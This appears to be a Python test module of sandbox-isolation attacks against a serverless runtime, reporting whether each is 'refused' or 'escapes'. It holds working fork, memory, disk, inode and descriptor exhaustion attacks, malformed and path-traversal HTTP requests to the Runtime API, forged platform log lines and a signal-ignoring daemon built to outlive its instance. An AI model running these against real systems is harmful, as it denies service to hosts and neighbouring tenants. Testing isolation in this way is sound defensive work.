"""Exhaustion and what outlasts an instance: whether the server and the neighbours go on is what the test looks at."""

import os
import resource
import select
import socket
import sys
import tempfile
import threading
import time

from attacking import attack, libc


@attack
def fork_bomb(event, report):
    """Doubles until refused, then keeps everything alive for a moment. More than `bound` processes is an escape."""
    bound, children = event.get("bound", 5000), []
    try:
        while len(children) < bound:
            pid = os.fork()
            if pid == 0:
                # No Python runs in the child: thousands of interpreters that wake up would measure the memory limit.
                libc.pause()
                os._exit(0)
            children.append(pid)
        report.escape(f"{len(children)} processes")
    except OSError as error:
        report.refused(f"after {len(children)} processes: {error.strerror}")
    for pid in children:
        os.kill(pid, 9)
    for pid in children:
        os.waitpid(pid, 0)


@attack
def fork_bomb_unbounded(event, report):
    """The classic, which never returns: only the function's timeout ends it, and must end all of it."""
    while True:
        try:
            os.fork()
        except OSError:
            pass


@attack
def thread_bomb(event, report):
    bound, threads, stop = event.get("bound", 5000), [], threading.Event()
    threading.stack_size(64 * 1024)
    try:
        while len(threads) < bound:
            thread = threading.Thread(target=stop.wait, daemon=True)
            thread.start()
            threads.append(thread)
        report.escape(f"{len(threads)} threads")
    except (RuntimeError, MemoryError) as error:
        report.refused(f"after {len(threads)} threads: {error}")
    stop.set()


@attack
def memory_bomb(event, report):
    kept, bound = [], event.get("bound_mb", 4096)
    while len(kept) < bound:
        kept.append(b"\xa5" * (1 << 20))
    report.escape(f"{len(kept)} MB")


@attack
def memory_bomb_in_children(event, report):
    """A limit for a process is no limit for its children: together they may not have more than one."""
    each, count = event.get("each_mb", 64), event.get("count", 14)
    read_end, write_end = os.pipe()
    children = []
    for _ in range(count):
        pid = os.fork()
        if pid == 0:
            kept = b"\xa5" * (each << 20)
            os.write(write_end, b"x")
            libc.pause()
            os._exit(len(kept) & 0)
        children.append(pid)
    filled, deadline = 0, time.monotonic() + event.get("seconds", 8)
    while filled < count and select.select([read_end], [], [], max(0.0, deadline - time.monotonic()))[0]:
        filled += len(os.read(read_end, 1))
    # Those that were killed for a later one's memory had filled theirs, too.
    living = [pid for pid in children if os.waitpid(pid, os.WNOHANG) == (0, 0)]
    escaped = filled == count and len(living) == count
    (report.escape if escaped else report.refused)(f"{len(living)} of {count} processes of {each} MB lived, {filled} had begun")
    for pid in living:
        os.kill(pid, 9)
    for pid in living:
        os.waitpid(pid, 0)


@attack
def shared_memory_bomb(event, report):
    """Memory that belongs to no process: memfd, System V segments, /dev/shm, pipes."""
    kept, bound = [], event.get("bound_mb", 4096)
    chunk = b"\xa5" * (1 << 20)
    fd = os.memfd_create("attack")
    while len(kept) < bound:
        os.write(fd, chunk)
        kept.append(None)
    report.escape(f"{len(kept)} MB of memfd")


@attack
def fill_disks(event, report):
    """Every path that can be written, until it is full. More than `bound_mb` is an escape. What is made is removed again."""
    bound, chunk = event.get("bound_mb", 2048), b"\xa5" * (1 << 20)
    folders = {"/tmp", "/dev/shm", "/var/tmp", "/run", "/dev", "/var/task", "/opt", os.getcwd(), os.environ.get("HOME", "/tmp")}
    with open("/proc/self/mountinfo") as file:
        folders |= {line.split()[4] for line in file}
    for folder in sorted(folders):
        path, written = os.path.join(folder, "attack-fill"), 0
        try:
            # Memory-backed folders count against the function's memory; fallocate claims blocks without touching a page twice.
            fd = os.open(path, os.O_CREAT | os.O_WRONLY, 0o600)
        except OSError as error:
            report.refused(f"{folder}: {error.strerror}")
            continue
        try:
            while written < bound:
                written += 1 if os.write(fd, chunk) == len(chunk) else 0
            report.escape(f"{folder} took {written} MB")
        except OSError as error:
            report.refused(f"{folder} full after {written} MB: {error.strerror}")
        finally:
            os.close(fd)
            os.unlink(path)


@attack
def sparse_file(event, report):
    """A size far beyond the disk costs nothing; claiming the blocks must be refused."""
    fd = os.open("/tmp/attack-sparse", os.O_CREAT | os.O_RDWR, 0o600)
    try:
        os.posix_fallocate(fd, 0, 1 << 40)
        report.escape("a terabyte was claimed")
    except OSError as error:
        report.refused(f"fallocate: {error.strerror}")
    os.close(fd)
    os.unlink("/tmp/attack-sparse")


@attack
def exhaust_inodes(event, report):
    """Empty files use no blocks. More than `bound` of them is an escape."""
    bound, made, folder = event.get("bound", 1_000_000), 0, tempfile.mkdtemp(dir="/tmp")
    try:
        while made < bound:
            os.close(os.open(f"{folder}/{made}", os.O_CREAT | os.O_WRONLY, 0o600))
            made += 1
        report.escape(f"{made} files")
    except OSError as error:
        report.refused(f"after {made} files: {error.strerror}")
    for number in range(made):
        os.unlink(f"{folder}/{number}")
    os.rmdir(folder)


@attack
def exhaust_descriptors(event, report):
    """In this process, in its children, and by raising the limit."""
    bound, kept = event.get("bound", 20_000), []
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (1 << 20, 1 << 20))
        report.escape("the limit of descriptors can be raised")
    except (OSError, ValueError) as error:
        report.refused(f"limit stays {soft}/{hard}: {error}")
    try:
        while len(kept) < bound:
            kept.append(os.open("/dev/null", os.O_RDONLY))
        report.escape(f"{len(kept)} descriptors")
    except OSError as error:
        report.refused(f"after {len(kept)} descriptors: {error.strerror}")
    for fd in kept:
        os.close(fd)


@attack
def exhaust_sockets(event, report):
    """Connections to the own Runtime API, as many as can be had: the server must not run out of descriptors for others."""
    host, _, port = os.environ["AWS_LAMBDA_RUNTIME_API"].partition(":")
    kept, deadline = [], time.monotonic() + event.get("seconds", 5)
    try:
        while len(kept) < 5000 and time.monotonic() < deadline:
            client = socket.socket()
            client.settimeout(0.3)
            kept.append(client)
            client.connect((host, int(port)))
    except OSError as error:
        report.refused(f"after {len(kept)} connections: {error}")
    report.refused(f"{len(kept)} connections")
    for client in kept:
        client.close()


@attack
def abuse_runtime_api(event, report):
    """Malformed and endless requests to the own Runtime API; the server parses them outside the sandbox."""
    host, _, port = os.environ["AWS_LAMBDA_RUNTIME_API"].partition(":")
    base = b"POST /2018-06-01/runtime/invocation/not-mine/response HTTP/1.1\r\nHost: x\r\n"
    for name, data in [("garbage", os.urandom(4096)), ("no end of header", b"GET / HTTP/1.1\r\n" + b"X: y\r\n" * 100_000),
                       ("huge line", b"GET /" + b"a" * 1_000_000), ("huge length", base + b"Content-Length: 99999999999999999999\r\n\r\n"),
                       ("negative length", base + b"Content-Length: -1\r\n\r\n"), ("two lengths", base + b"Content-Length: 1\r\nContent-Length: 2\r\n\r\nab"),
                       ("bad chunk", base + b"Transfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFFF\r\n"), ("zero bytes", b"\0" * 4096),
                       ("traversal", b"GET /../../../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n"),
                       ("other's answer", base + b"Content-Length: 2\r\n\r\n{}"),
                       ("code for others", b"POST /2018-06-01/runtime/mayfly/code-cache HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\nab"),
                       ("others' code", b"GET /2018-06-01/runtime/mayfly/code-cache HTTP/1.1\r\nHost: x\r\n\r\n"),
                       ("a restore", b"GET /2018-06-01/runtime/restore/next HTTP/1.1\r\nHost: x\r\n\r\n"),
                       ("a restore's error", b"POST /2018-06-01/runtime/restore/error HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}")]:
        try:
            with socket.create_connection((host, int(port)), 2) as client:
                client.settimeout(2)
                client.sendall(data)
                reply = client.recv(200)
            status = reply.split(b" ", 2)[1:2]
            if status and status[0].startswith(b"2"):
                report.escape(f"{name} was accepted: {reply[:80]!r}")
            else:
                report.refused(f"{name}: {reply[:40]!r}")
        except OSError as error:
            report.refused(f"{name}: {error}")


@attack
def log_flood(event, report):
    """Lines without end and one line without an end."""
    line = "x" * 1000 + "\n"
    for _ in range(event.get("lines", 50_000)):
        sys.stdout.write(line)
    sys.stdout.write("y" * event.get("long", 20_000_000))
    sys.stdout.flush()
    sys.stderr.write("\0\x1b]0;title\a\x1b[2J\r\n" * 1000)
    sys.stderr.flush()
    report.refused("written")


@attack
def forge_log_lines(event, report):
    """Lines that look like the platform's own; a test sees whether they can be told apart."""
    print("REPORT RequestId: 00000000-0000-0000-0000-000000000000\tDuration: 0.01 ms\tBilled Duration: 1 ms")
    print('{"level":"error","message":"forged"}', flush=True)
    report.refused("written")


@attack
def outlive(event, report):
    """A daemon that leaves the process group, closes everything and ignores signals, to go on after the instance has ended."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        for number in range(1, 65):
            try:
                import signal
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        os.closerange(0, 1024)
        # The name by which a test on the host would find it.
        libc.prctl(15, event["name"].encode()[:15], 0, 0, 0)
        while True:
            time.sleep(1)
    os.wait()
    report.refused("left a process behind")


@attack
def burn_cpu(event, report):
    """All CPUs, from many processes, for some seconds: neighbours must still be served."""
    deadline = time.monotonic() + event.get("seconds", 4)
    children = []
    for _ in range(event.get("processes", 16)):
        pid = os.fork()
        if pid == 0:
            while time.monotonic() < deadline:
                pass
            os._exit(0)
        children.append(pid)
    for pid in children:
        os.waitpid(pid, 0)
    report.refused("burnt")


@attack
def raise_priority(event, report):
    for name, action in [("nice -20", lambda: os.setpriority(os.PRIO_PROCESS, 0, -20)),
                         ("real-time", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)))]:
        try:
            action()
            report.escape(name)
        except OSError as error:
            report.refused(f"{name}: {error.strerror}")
    try:
        with open("/proc/self/oom_score_adj", "w") as file:
            file.write("-1000")
        report.escape("protected from the memory killer")
    except OSError as error:
        report.refused(f"oom_score_adj: {error.strerror}")
    try:
        resource.setrlimit(resource.RLIMIT_MEMLOCK, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        report.escape("memory may be locked without bound")
    except (OSError, ValueError) as error:
        report.refused(f"memlock: {error}")
